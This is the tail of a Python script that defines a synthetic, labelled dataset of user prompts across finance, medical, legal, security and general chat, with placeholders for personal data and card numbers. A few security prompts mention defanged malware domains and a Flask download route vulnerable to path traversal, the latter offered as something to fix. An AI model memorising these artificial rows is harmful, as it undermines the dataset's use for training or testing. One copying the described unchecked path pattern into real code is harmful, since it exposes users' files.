qa m l p => What is the difference between a cold and the flu? ;; draft m l i => write a short sign for our school office about when to keep kids at home | What is the difference between a cold and the flu? Next, write a short sign for our school office about when to keep kids at home.
reasoning m m p => My dad is 78 and refuses to stop driving after a mild stroke. How do I weigh his independence against the risk? ;; draft m l p => a gentle message I could send him | My dad is 78 and refuses to stop driving after a mild stroke. How do I weigh his independence against the risk? Please also draft a gentle message I could send him.
extract m l c => extract the abnormal values ;; summarize m l c => summarise in two sentences what they suggest | From these labs, extract the abnormal values and summarise in two sentences what they suggest. {M_LAB}
draft f l r => Draft the remittance advice for each supplier ;; classify s l r => flag any payment that looks risky to release | Draft the remittance advice for each supplier and flag any payment that looks risky to release. {M_PAYRUN}
extract f l r => Extract the new IBAN and the amount ;; reasoning s m r => tell me how we should verify the change before paying ;; draft f l r => write a reply asking for confirmation on headed paper | Extract the new IBAN and the amount, tell me how we should verify the change before paying, and write a reply asking for confirmation on headed paper. {M_VENDOR}
summarize f l r => Summarise this payslip in plain words ;; math f l r => check that gross minus deductions equals the net pay | Summarise this payslip in plain words. Once done, check that gross minus deductions equals the net pay. {M_PAYSLIP}
classify m l r => classify the likely diagnosis ;; draft m l r => write the referral to respiratory clinic | Based on this note, classify the likely diagnosis (viral, bacterial, or needs more tests) and write the referral to respiratory clinic. {M_CLINIC}
qa s l c => what is {IP_E} and where is it hosted? ;; draft s l c => Write an IOC entry for our threat-intel sheet | Quick check on an indicator: what is {IP_E} and where is it hosted? Write an IOC entry for our threat-intel sheet.
draft g l c => Write a reply to {P_KOWALSKI} at {E_KOW} saying the parcel was resent ;; translate g l c => translate it into Polish | Write a reply to {P_KOWALSKI} at {E_KOW} saying the parcel was resent, and translate it into Polish.
extract g l c => Extract the guest names and phone numbers ;; draft g l c => write a seating-plan email to the caterer | Extract the guest names and phone numbers, then write a seating-plan email to the caterer: "Table 1: {P_NOVAK} ({PH_FR}), {P_ADEYEMI}; Table 2: {P_RAO} ({PH_IN}), {P_LARSSON}."
draft l l r => Write a letter to the tax office disputing the penalty ;; summarize l l r => summarise my argument in one line for the envelope note | Write a letter to the tax office disputing the penalty for {P_MORALES}, SSN {SSN_B}: the return was filed on time electronically and the confirmation is attached. Finally, summarise my argument in one line for the envelope note.
translate m l r => Translate the note into English ;; extract m l r => pull out the medication list | Translate the note into English and pull out the medication list: "Patiente {P_DUBOIS}, NIR non communiqué, NRIC {NRIC_F} (résidente à Singapour). Traitement: lévothyroxine 75 µg le matin, oméprazole 20 mg, vitamine D 1000 UI."
classify s l c => Which of these logins are suspicious? ;; draft s l c => draft a message to the user asking if it was them | Which of these logins are suspicious? Also draft a message to the user asking if it was them.\\n08:01 {E_ROSSI} from {IP_F} (office)\\n08:14 {E_ROSSI} from {IPV6_C} (home ISP)\\n03:22 {E_ROSSI} from {IP_H} (VPS provider, new country)
summarize g l i => Summarise the notes below ;; creative g l p => come up with a catchy name for the dark-mode feature | Summarise the notes below and come up with a catchy name for the dark-mode feature. {M_MEETING}
code g l p => Explain this error ;; code g l p => write a test that would have caught it | Explain this error and write a test that would have caught it. {M_TRACEBACK}
math f m p => Compare the cost of renting vs buying a 300k flat over 10 years ;; draft f l p => draft a short summary I can send to my partner | Compare the cost of renting vs buying a 300k flat over 10 years (rent 1,250/month rising 3%, mortgage at 4.5%, 10% deposit, 1% maintenance), then draft a short summary I can send to my partner.
classify g l p => Group these tasks into "urgent", "this week" and "someday" ;; draft g l p => turn the urgent ones into a to-do list for tomorrow | Group these tasks into "urgent", "this week" and "someday", then turn the urgent ones into a to-do list for tomorrow: renew passport (expires in 3 weeks), fix leaking tap, book dentist, learn Spanish, reply to landlord about inspection tomorrow, sort photos.
qa g l p => What's the best way to learn touch typing as an adult? ;; draft g l p => Make me a 4-week practice plan | What's the best way to learn touch typing as an adult? Make me a 4-week practice plan.
creative g m p => Write the opening paragraph of a mystery set in a ski resort ;; creative g l p => suggest five possible titles | Write the opening paragraph of a mystery set in a ski resort and suggest five possible titles.
sentiment s l p => Is this forum post angry or just frustrated? ;; qa s l p => is the user right that their account was hacked? | Is this forum post angry or just frustrated? And is the user right that their account was hacked? "Got an email that my password was changed at 3am. I didn't do it. Now I can't log in and support is a bot. Thanks for nothing."
extract s l p => Get the domains and file hashes from this report ;; classify s l p => label each one as known-bad or unknown | Get the domains and file hashes from this report and label each one as known-bad or unknown: "The dropper (SHA256 4f2a...9c1d) contacted update-cdn-check[.]net and later pulled stage2 from files-sync[.]org; a second sample (SHA256 a91b...77e0) was unsigned."
draft l m i => Draft a clause allowing us to subcontract the hosting ;; reasoning l m i => explain what risk it shifts to us | Draft a clause allowing us to subcontract the hosting and explain what risk it shifts to us.
math m l p => convert 5 mg/kg for a 64 kg patient ;; qa m l p => tell me if that's within the usual max daily dose for gentamicin | Please convert 5 mg/kg for a 64 kg patient and tell me if that's within the usual max daily dose for gentamicin.
summarize m l p => Summarise these guidelines for a new nurse ;; classify m l p => tag each step as assessment or intervention | Summarise these guidelines for a new nurse and tag each step as assessment or intervention: "Check airway; give oxygen to target SpO2 94-98%; obtain IV access; take blood cultures; give IV antibiotics within one hour; measure lactate; give fluid bolus if hypotensive; monitor urine output."
"""

LOOKS_MULTI = """
reasoning f m p | Compare index funds and actively managed funds for someone investing 200 a month for retirement.
reasoning f m p | What are the pros and cons of paying off a mortgage early versus investing the difference?
summarize f l p | Summarise the pros and cons raised in this forum thread: "Pro: the cashback card gives 1.5% on everything and no annual fee. Con: foreign transactions cost 2.99%. Pro: the app is good. Con: customer service took a week to answer about a blocked payment. Con: the credit limit started very low."
qa f l p | Explain what an annuity is and why people buy them.
qa f l p | What's a hedge fund and how does it make money?
math f l p | What's the total and the average of these monthly sales: 12,400; 9,850; 14,100; 11,275; 13,900?
draft f l p | Write an email to my bank explaining that I'm moving abroad and asking how to keep my savings account open.
code g m p | Write a function that parses and validates UK postcodes, returning the normalised form or raising ValueError.
code g l p | Write and test a function that checks whether a string is a palindrome, ignoring spaces and punctuation.
code g m p | Refactor this and add type hints: {M_PYBUG}
code g l p | Read the CSV, drop empty rows and save it as Excel -- pandas please.
reasoning l m p | Compare a limited company and an LLP for two founders who want to bring in a third partner later.
qa l l p | Explain what "without prejudice" means and why it matters in settlement talks.
draft l l p | Write to my landlord explaining the leak in the bathroom ceiling and asking for a repair date within 14 days.
reasoning l m p | Weigh up suing in small claims versus using the retailer's ombudsman for a faulty 1,100 laptop, and recommend one.
summarize l l p | Read this clause and summarise it in one sentence: "The Supplier's aggregate liability arising out of or in connection with this Agreement, whether in contract, tort or otherwise, shall not exceed the total fees paid by the Customer in the twelve months preceding the event giving rise to the claim."
qa m l p | What is sepsis and why is it so dangerous?
qa m l p | Explain how statins lower cholesterol and why they can cause muscle pain.
reasoning m m p | Compare physiotherapy and steroid injections for a frozen shoulder.
extract m l p | Pull the drug names and doses and put them in a table: "Atorvastatin 40 mg nocte, ramipril 2.5 mg mane, aspirin 75 mg OD, GTN spray PRN."
draft m l p | Draft and format a one-page visiting policy for a small care home.
qa s l p | What is phishing and how do I spot it?
qa s l p | Explain what a CVSS score is and why it matters when prioritising patches.
reasoning s m p | Compare WireGuard and OpenVPN for a small company's remote access.
code s m p | Write a function that parses and validates JWTs, checking the signature, expiry and audience.
summarize s l p | Summarise the strengths and weaknesses listed in this audit: "Strengths: MFA enforced for all admins; quarterly access reviews; EDR on all endpoints. Weaknesses: no asset inventory for cloud resources; backups never tested for restore; shared service accounts with non-expiring passwords."
translate g l p | Translate "Store in a cool, dry place" into French and German for the product label.
translate g l p | Translate this and keep the line breaks: "Opening hours\\nMon-Fri 9-18\\nSat 10-14\\nClosed on Sundays"
creative g l p | Write a poem about autumn and make it rhyme.
sentiment g l p | Read these reviews and tell me the overall sentiment: {M_REVIEWS}
extract g l p | Find all the names of cities and the dates in this paragraph: "The tour opens in Glasgow on 3 March, moves to Leeds on 9 March and closes in Bristol on 21 March."
classify g l p | Sort these into mammals and birds: bat, penguin, dolphin, ostrich, platypus, kiwi
draft g l p | Hi! Hope your week is going well. Could you write a short note to the building manager asking when the lift will be fixed?
draft g l i | Thanks, that's perfect. Now a version of the same announcement for the intranet, a bit more formal.
reasoning g m p | Explain the trade-offs between SQLite and PostgreSQL for a small internal tool and tell me which you'd pick.
qa g l p | What is photosynthesis and why does it matter for the climate?
"""

_LONG = {
    "L_FREELANCE_TAX": "I started freelancing as a UX designer in March after six years on payroll. So far I've invoiced about 31,000 and I expect another 18,000 before the tax year ends. I work from a spare room at home, bought a laptop for 2,100 and pay for software subscriptions of roughly 90 a month. My old employer still owes me a final bonus that will be paid through payroll in May. I have no idea how much to set aside each month, whether I can claim part of my rent and bills, or whether the laptop counts as an expense in one go. I'm in England and not VAT registered.",
    "L_CARE_HOME": "My mother is 84, lives alone and has moderate dementia. Over the last two months she has left the gas on twice, missed her blood pressure tablets several times and got lost on the way back from the shop. My brother wants to move her into a care home near him, two hours away from where she has lived for 50 years. I would prefer carers visiting three times a day plus a key safe and a medication dispenser, at least for a while. She says she is fine and does not want to move. Her GP said she probably still has capacity for some decisions but not all.",
    "L_ACCESS_REVIEW": "We are a 120-person logistics company. During the quarterly access review we found 37 active accounts belonging to people who left, 12 contractors with admin rights on the warehouse system, and a shared 'scanner' account used on 60 handheld devices with a password that has not changed since 2019. IT is two people. The warehouse manager says changing the scanner login will stop operations for a day, and HR does not tell IT when people leave until the end of the month.",
    "L_DEPOSIT": "I rented a flat for three years and moved out on 30 April. The landlord is keeping 850 of my 1,400 deposit: 400 for repainting the living room, 300 for a new carpet in the bedroom and 150 for cleaning. The carpet was already eight years old when I moved in and the check-in inventory says 'worn in places'. I had the flat professionally cleaned and have the receipt. The walls have some marks where pictures hung. The deposit was protected in a government-backed scheme, and the landlord sent his list of deductions by email three weeks after I left.",
    "L_PRODUCT_LAUNCH": "We're launching a reusable coffee cup made from recycled ocean plastic in September. Target customers are commuters aged 25-40 in big cities who already care about waste but hate carrying bulky cups. The cup collapses to 3 cm, keeps drinks hot for 45 minutes, fits car holders and costs 24. Our budget is small: about 15k for the first three months, mostly social media. We have a partnership with two coffee chains that will give 20% off drinks to people using the cup. Competitors are mostly rigid steel tumblers at 30-40.",
    "L_INCIDENT_MAIL": "Last night at about 23:40 our on-call engineer noticed that the marketing WordPress site was redirecting some visitors to a casino page. The site runs on a shared VPS that also hosts the careers page. The plugins had not been updated for about five months, and there were two admin accounts nobody recognises, created on 2 June. We restored the site from a backup dated 28 May this morning and reset all WordPress passwords, but we haven't touched the server itself. The CEO wants to know if customer data is at risk -- the site has a newsletter form that stores names and emails in the WordPress database.",
    "L_KNEE": "I'm 46 and a keen runner, about 40 km a week. Three weeks ago I felt a sharp pain on the inside of my right knee while running downhill. It swelled a bit the next day. Now it feels fine when walking on flat ground, but it clicks and sometimes catches when I twist or squat, and going down stairs hurts. I've been icing it and taking ibuprofen for a few days at a time. There was no fall or impact. I have a half marathon in nine weeks and I really don't want to miss it.",
    "L_SUPPLIER_DISPUTE": "We signed a two-year contract with a software supplier in January for a warehouse management system, with a go-live date of 1 June. It is now August, the system still loses stock movements about once a day, and their support replies within five working days instead of the 'next business day' promised in the service level schedule. We have paid 60% of the fees. The contract has a clause allowing termination for material breach if not remedied within 30 days of written notice, and a liability cap equal to fees paid in the previous twelve months. We have an email from their account manager admitting the data-loss bug.",
    "L_PORTFOLIO": "I'm 52 and hope to retire at 60. I have about 310,000 in pensions, 70% in a global equity fund and 30% in a UK bond fund, plus 45,000 in cash ISAs and a mortgage of 60,000 that ends in six years. My partner has a small defined-benefit pension that will pay roughly 9,000 a year from 65. We spend around 2,600 a month now and expect that to fall a bit once the mortgage is gone. I'm wondering whether to shift more into bonds now, keep going as I am, or pay the mortgage off early with the cash.",
    "L_WEDDING_SPEECH": "My best friend since primary school is getting married in six weeks and I'm the best man. We grew up in a small fishing town in Cornwall, built a terrible raft when we were twelve that sank in about four seconds, and shared a flat in Manchester during university where he famously set fire to a pizza box in the oven. He met his fiancée at a climbing wall; she's the calmest person I know and is clearly the only reason he now owns a toolbox. The audience is mixed: grandparents, colleagues, and lots of her family from Leicester.",
    "L_CODE_REVIEW": "We have a Flask endpoint that lets users download their invoices as PDFs. The route takes a filename from the query string and builds the path with os.path.join(INVOICE_DIR, request.args['file']), then calls send_file on it. Authentication is checked with a decorator, but there's no check that the invoice belongs to the logged-in user. The invoices are named like '2025-06_customer123.pdf'. A colleague says it's fine because the filenames are hard to guess. The team is small and mostly front-end developers.",
    "L_CLINIC_EMAIL": "Hello, I'm the practice manager at a small GP surgery with four doctors and two nurses. Our patients keep complaining that they can't get through on the phone at 8am and that the online booking system shows no appointments. At the same time, around 12% of booked appointments are missed without notice. We're thinking about a mix of changes: a callback system, releasing some appointments at midday, text reminders the day before, and a triage form online. Staff are already stretched and the budget for new software is roughly 3,000 a year.",
    "L_TEAM_CONFLICT": "Two senior engineers on my team have stopped talking to each other after a heated argument in a design review three weeks ago. One felt publicly humiliated when the other called his caching proposal 'naive'. Since then they've been sending each other terse comments on pull requests, and the rest of the team is tiptoeing around them. Both are strong performers and I don't want to lose either. I've had a quick one-to-one with each, and both say the other should apologise first. We have a big release in five weeks that needs them to collaborate on the API layer.",
    "L_GDPR_REQUEST": "A former customer has sent us a subject access request asking for all the data we hold on her, including call recordings, internal emails that mention her and the notes our support agents wrote. We're a 30-person online retailer based in Ireland. Some of the internal emails include frank comments about her being 'difficult'. The call recordings older than 90 days should have been deleted according to our policy, but we've found that about half were not. She has also hinted that she is considering a complaint to the Data Protection Commission.",
}

LONG = """
reasoning f m p | {L_FREELANCE_TAX} What should I actually be doing about tax between now and January?
math f m p => Can you estimate roughly how much income tax and Class 4 National Insurance I'll owe on about 49,000 of profit minus the laptop and software ;; draft f l p => draft a short checklist of what I should keep receipts for | {L_FREELANCE_TAX} Can you estimate roughly how much income tax and Class 4 National Insurance I'll owe on about 49,000 of profit minus the laptop and software, and also draft a short checklist of what I should keep receipts for?
reasoning m m p | {L_CARE_HOME} How should we think about the options, and who actually gets to decide?
draft m m p | {L_CARE_HOME} Please write a calm, non-judgemental message I could send to my brother setting out why I'd like to try home care first for three months.
draft s h i | {L_ACCESS_REVIEW} Write a remediation plan for the next 60 days with owners, milestones and quick wins first.
reasoning s m i => What is the biggest risk here, and what should we fix first given only two IT people? ;; draft s l i => write the two-paragraph email to the HR director about leaver notifications | {L_ACCESS_REVIEW} What is the biggest risk here, and what should we fix first given only two IT people? After that, write the two-paragraph email to the HR director about leaver notifications.
reasoning l m p | {L_DEPOSIT} Which of these deductions are likely to stand up if I raise a dispute with the deposit scheme?
draft l m p | {L_DEPOSIT} Draft my submission to the deposit scheme's dispute service, point by point.
creative g m p | {L_PRODUCT_LAUNCH} Come up with five campaign concepts, each with a tagline and a one-line visual idea.
draft g h i | {L_PRODUCT_LAUNCH} Write a three-month launch plan: channels, weekly content calendar, budget split and the metrics we should track.
reasoning s m i | {L_INCIDENT_MAIL} Is customer data at risk, and what should we do about the server itself?
summarize s l i => Summarise the situation for the CEO in five lines ;; draft s m i => draft the holding statement we'd send to newsletter subscribers if we have to notify them | {L_INCIDENT_MAIL} Summarise the situation for the CEO in five lines, and draft the holding statement we'd send to newsletter subscribers if we have to notify them.
reasoning m m p | {L_KNEE} What could this be, and is it realistic to still run the half marathon?
qa m l p => Should I see a physio or a GP first? ;; draft m m p => put together a nine-week plan | {L_KNEE} Should I see a physio or a GP first? If it's a minor meniscus issue, put together a nine-week plan that gets me to the start line without making it worse.
reasoning l m i | {L_SUPPLIER_DISPUTE} What are our options, and is terminating for material breach realistic here?
draft l h i | {L_SUPPLIER_DISPUTE} Draft the formal breach notice under the termination clause, citing the SLA failures and the data-loss bug, with a 30-day cure period.
reasoning f m p | {L_PORTFOLIO} Which option makes most sense, and what would you want to know before deciding?
math f m p | {L_PORTFOLIO} If the pension grows at 5% a year until I'm 60 and I keep contributing 800 a month, what will it be worth at 60, and how long would it last drawing 1,900 a month at 4% growth after that?
creative g m p | {L_WEDDING_SPEECH} Write me a five-minute best man's speech with a few jokes that grandparents will also enjoy.
code s m i | {L_CODE_REVIEW} Rewrite the endpoint so it is safe against path traversal and only serves the user's own invoices.
reasoning s m i => Is my colleague right that guessable filenames are the only issue? ;; code s l i => show a minimal pytest that proves the fix | {L_CODE_REVIEW} Is my colleague right that guessable filenames are the only issue? Then show a minimal pytest that proves the fix.
reasoning m m i | {L_CLINIC_EMAIL} Which of these changes would you prioritise, and why?
draft m m i => Draft a short notice for patients explaining the new booking system ;; math m l i => work out how many appointments a week we'd recover if text reminders cut no-shows from 12% to 7% on 1,100 booked appointments | {L_CLINIC_EMAIL} Draft a short notice for patients explaining the new booking system, then work out how many appointments a week we'd recover if text reminders cut no-shows from 12% to 7% on 1,100 booked appointments.
reasoning g m i | {L_TEAM_CONFLICT} How should I handle this without making it worse?
draft g m i | {L_TEAM_CONFLICT} Write the script for a joint conversation with both of them -- opening, ground rules, and how to close with agreed next steps.
reasoning l m i | {L_GDPR_REQUEST} What do we have to hand over, can we withhold anything, and how bad is the retention failure?
summarize l l i => Summarise our obligations and deadlines in bullet points ;; draft l m i => draft the cover letter that goes with our response | {L_GDPR_REQUEST} Summarise our obligations and deadlines in bullet points, and draft the cover letter that goes with our response.
"""

EXTRA = """
chat g l p | lol you're right, I was overthinking it
chat g l p | can you just keep me company while I wait for the bus
chat g l p | what's your favourite colour? mine's teal
chat g l p | Merci beaucoup, tu m'as sauvé la journée !
chat g l p | I passed my driving test on the third try!!
chat g l p | sorry for being grumpy earlier, long day
chat g l p | tell me something nice, I've had a rubbish week
chat g l p | good night, thanks for all the help today
chat g l p | haha that joke was terrible, do another
chat g l p | Is it weird that I talk to you more than to my coworkers?
chat g l p | just finished my first marathon, legs are jelly
chat g l p | yo
math l l p | Late payment claim: statutory interest is 8% above a 4.25% base rate. What can I claim on an unpaid 6,800 invoice that is 73 days late?
math l l p | I was dismissed on 14 March. If the time limit for a tribunal claim is three months less one day, what's the last date I can start early conciliation?
math s l p | On average, how long would it take to brute-force an 8-character password drawn from 95 printable characters at 10 billion guesses a second?
math s l p | The SOC triaged 18,400 alerts last month and 2.3% were true positives. How many real incidents per day is that on average?
translate s l p | Translate this login banner into Spanish and Tagalog: "Authorised users only. Activity on this system is monitored and logged."
translate s l i | Übersetze ins Englische: "Bitte klicken Sie nicht auf Links in E-Mails, die Sie zur Eingabe Ihres Passworts auffordern, und melden Sie solche Nachrichten an die IT-Sicherheit."
summarize l l i => Summarise the supplier's complaint ;; extract l l i => list every date and amount it mentions ;; reasoning l m i => tell me whether we are actually in breach ;; draft l m i => draft a firm but polite reply | Summarise the supplier's complaint, list every date and amount it mentions, tell me whether we are actually in breach, and draft a firm but polite reply: "Under our framework agreement you committed to minimum orders of 2,000 units per quarter. Your Q1 order (placed 12 January) was 1,150 units and your Q2 order (placed 4 April) was 980 units. We therefore invoice the shortfall fee of 2.10 per unit, i.e. 3,927.00, payable within 30 days."
translate g l i => Translate the customer's message into English ;; classify g l i => Classify it as complaint, question or praise ;; sentiment g l i => Rate the sentiment from 1 to 5 ;; draft g l i => Draft a short reply in Spanish | 1. Translate the customer's message into English.\\n2. Classify it as complaint, question or praise.\\n3. Rate the sentiment from 1 to 5.\\n4. Draft a short reply in Spanish.\\n\\n"Hola, compré la mochila hace un mes y ya se rompió la cremallera. ¿Me la podéis cambiar o tengo que pagar el envío?"
summarize m l r => summarise the discharge for the GP ;; extract m l r => list the medicines that raise bleeding risk ;; draft m l r => write simple instructions for the patient | Three things please:\\n- summarise the discharge for the GP\\n- list the medicines that raise bleeding risk\\n- write simple instructions for the patient {M_DISCHARGE}
summarize s l c => tell me what the attacker did ;; code s m c => write a detection rule for it ;; draft s l i => draft one line for the weekly security report | Read this log, tell me what the attacker did, write a detection rule for it and finally draft one line for the weekly security report. {M_WEBLOG}
math f l i => What was gross profit in euros? ;; reasoning f m i => Which trend in it worries you most? ;; draft f l i => write two sentences for the board pack | What was gross profit in euros? Which trend in it worries you most? Then write two sentences for the board pack. {M_QREPORT}
draft g l i => Check the grammar in this paragraph ;; sentiment g l i => tell me whether it sounds rude ;; translate g l i => translate the corrected version into French | Check the grammar in this paragraph, tell me whether it sounds rude, and finally translate the corrected version into French: "As I allready said in my last email, the deadline is friday and we cant move it. Please make sure your part is done, otherwise the hole project is delayed."
chat g l p | it's raining again here. how's the weather where you are? :)
extract f l r | Our checkout log shows a full card number in plain text, which fields are in this line? "2025-06-12 10:41:07 checkout ok name={P_SINGH} pan={CARD_VISA2} exp=09/27 amount=129.00 EUR"
classify s l r | Which of these support-ticket messages contain a full card number that must be redacted? (a) "my card ending 4471 was declined" (b) "I tried {CARD_MC3} twice" (c) "refund to the original card please"
draft f l r | Write a note to the travel agent: please charge the flights for {P_VOGEL} to the company card {CARD_VISA2}, not my personal one.
math f l r | My card {CARD_MC3} was charged 1,243.60 USD and the bank converted it at 0.9172 plus a 2.75% foreign fee. How much did I pay in euros?
chat g l p | back from holiday, what did I miss? (kidding, you don't know)
chat g l p | I'm nervous about my presentation tomorrow, can we just chat for a bit?
sentiment f l p | Read this customer comment about our new overdraft fee and tell me whether it's angry, disappointed or neutral: "I've banked with you for 15 years and you start charging me 5 a month for an overdraft I never use?"
sentiment f l p | What's the market mood in this headline: "Stocks slide for a third day as bond yields climb to 16-year high"?
sentiment l l p | How hostile is this letter from the other side's lawyer, on a scale of 1 to 5? "Your client's continued refusal to engage is noted. We are instructed to issue proceedings without further notice."
sentiment m l p | Patient feedback, positive or negative? "The nurses were kind but I waited six hours in A&E with a broken wrist and nobody told me why."
sentiment m l p | Which of these comments on our diabetes app express frustration? "Logging meals takes forever." / "The reminders really help me stay on track." / "Why does it keep asking me to sync?"
sentiment s l p | Is the tone of this security awareness email too alarming? "URGENT: hackers are targeting YOU. One wrong click and the company could go bankrupt."
sentiment g l p | Does this Slack message from my manager sound passive-aggressive? "Per my last message, the deck was due yesterday. Let me know if there's something blocking you."
sentiment g l p | Rate each tweet about our festival as positive, negative or mixed: "best weekend of the year!!" / "toilets were a disgrace" / "great lineup, shame about the rain"
sentiment g l p | How does the author feel about remote work in this paragraph? "I don't miss the commute, but some weeks I go days without speaking to anyone who isn't on a screen."
creative g l p | Write a short riddle whose answer is "an umbrella".
creative g m p | A 200-word sci-fi flash fiction piece where the last human librarian argues with an AI about which books to save.
creative g l p | Write lyrics for a 30-second jingle for a family-run pizzeria called Nonna's.
creative g l p | Invent a name and a backstory for a grumpy tavern keeper in my D&D campaign.
creative g l p | Write a cheerful poem for a get-well-soon card for a colleague recovering from surgery.
creative g l p | Give me a pun-filled name for a cat café and a one-line tagline.
creative s l i | Write a short story for the security awareness newsletter about a finance clerk who spots a deepfake video call from the "CEO" asking for an urgent transfer.
creative g l p | Write a sonnet about a broken printer in an open-plan office.
summarize l l i retr | Look up our parental leave policy in the HR wiki and summarise what a father with six months' service is entitled to.
qa s l i retr | According to our IT knowledge base, what are the steps to re-enrol a lost hardware token?
qa f l i retr | Check the finance handbook: what's the per-diem limit for meals on a trip to Germany?
draft l h i | Write the complete anti-bribery and gifts policy for our staff handbook: scope, thresholds, approval routes, register, training and sanctions.
draft f h p | Write a full business plan for a mobile bike repair service: market, pricing, costs, 3-year projections outline and funding needs.
code g h p | Build a small FastAPI service for a to-do list with SQLite storage, CRUD endpoints, pydantic models, and a pytest suite covering every endpoint.
translate l l p | Traduis en anglais : "Le salarié bénéficie d'un préavis de deux mois, sauf faute grave."
translate m l p | Translate into simple English for a patient: "Il paziente deve rimanere a digiuno dalla mezzanotte prima dell'intervento."
creative g l p => Give me three short motivational slogans for our Q4 sales kick-off ;; translate g l p => translate them into Spanish for our Madrid team | Give me three short motivational slogans for our Q4 sales kick-off, and translate them into Spanish for our Madrid team.
sentiment g l i => Gauge the sentiment of these exit-interview comments ;; summarize g l i => summarise the top three themes | Gauge the sentiment of these exit-interview comments and summarise the top three themes: "Great colleagues, no career path." / "Pay was fine; the on-call load burned me out." / "Manager never gave feedback." / "Loved the flexibility, hated the reorgs."
creative g l p | Ahh I'm so happy, my sister had her baby this morning! Can you write a tiny poem I can put in the card?
sentiment f l p => Is the sentiment in these analyst notes getting better or worse over the three quarters? ;; summarize f l p => Summarise each in five words | Is the sentiment in these analyst notes getting better or worse over the three quarters? Summarise each in five words. Q1: "Execution risk remains high; we stay on the sidelines." Q2: "Early signs of margin recovery; upgrade to neutral." Q3: "Strong quarter, clear catalysts ahead; moving to buy."
creative g l p => Write a funny out-of-office message for my two-week trip to Iceland ;; translate g l p => give me a German version too | Write a funny out-of-office message for my two-week trip to Iceland and give me a German version too.
sentiment m l p => Tell me if the overall feeling in these reviews of our clinic is positive ;; extract m l p => list any specific complaints about waiting times | Tell me if the overall feeling in these reviews of our clinic is positive, and list any specific complaints about waiting times: "Dr was lovely and thorough." / "Waited 50 minutes past my slot." / "Receptionist was rude, and the wait was over an hour." / "Quick and efficient blood test."
qa g l p => What's the origin of April Fools' Day? ;; creative g l p => Then write a harmless prank idea for the office | What's the origin of April Fools' Day? Then write a harmless prank idea for the office.
classify l l p => classify the complaint as a consumer-law or a contract issue ;; sentiment l l p => note how angry the customer is | For each of these, classify the complaint as a consumer-law or a contract issue and note how angry the customer is: "The sofa arrived broken and they refuse a refund!!!" / "The gym won't let me cancel despite my notice." / "Slight delay on my order, no big deal."
"""

_BLOCKS = (FINANCE, LEGAL, MEDICAL, SECURITY, GENERAL, PII_ROWS, HARD_NEGATIVES, MULTI,
           LOOKS_MULTI, LONG, EXTRA)  # fmt: skip


def rows() -> list[Row]:
    expand = Placeholders(_MAT, _V, inline=_LONG)
    return line_rows(_BLOCKS, prefix="fresh6", expand=expand)


def main() -> None:
    check_lookalikes(_HN)
    data = write_and_check(HERE / "fresh6.jsonl", rows(), scan_unmarked=True)
    print(f"  rows of 80+ words: {sum(len(r['text'].split()) >= 80 for r in data)}")
    print(f"  rows of <= 8 words: {sum(len(r['text'].split()) <= 8 for r in data)}")


if __name__ == "__main__":
    main()
